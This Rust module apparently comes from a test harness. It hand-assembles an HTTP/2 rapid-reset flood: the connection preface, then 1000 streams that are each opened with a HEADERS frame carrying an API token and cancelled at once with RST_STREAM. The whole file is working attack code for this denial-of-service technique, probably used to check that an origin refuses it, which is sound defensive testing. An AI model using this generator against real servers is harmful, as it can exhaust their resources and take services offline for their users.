//! Rapid resets over HTTP/2, frame by frame, since no library sends them.

use crate::origin::REFUSED;

/// Streams that one connection opens and resets.
const STREAMS: u32 = 1000;

/// The preface, and then each stream opened and reset (RFC 9113 §6.4).
pub fn bytes(token: &str) -> Vec<u8> {
    const HEADERS: u8 = 1;
    const RST_STREAM: u8 = 3;
    const SETTINGS: u8 = 4;
    const END_STREAM_AND_HEADERS: u8 = 5;
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let path = format!("{REFUSED}reset");
    let mut block = Vec::new();
    for (name, value) in [
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", "a"),
        (":path", path.as_str()),
        ("approov-token", token),
    ] {
        block.push(0); // A literal that is not indexed (RFC 7541 §6.2.2).
        for text in [name, value] {
            text_length(text.len(), &mut block);
            block.extend_from_slice(text.as_bytes());
        }
    }
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    for stream in (1..2 * STREAMS).step_by(2) {
        frame(&mut bytes, HEADERS, END_STREAM_AND_HEADERS, stream, &block);
        frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL);
    }
    bytes
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    bytes.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// The length of a text below 16 KiB: an integer with a prefix of seven bits (RFC 7541 §5.1).
fn text_length(length: usize, block: &mut Vec<u8>) {
    match length.checked_sub(127) {
        None => block.push(length as u8),
        Some(rest) => block.extend([127, (rest % 128) as u8 | 128, (rest / 128) as u8]),
    }
}
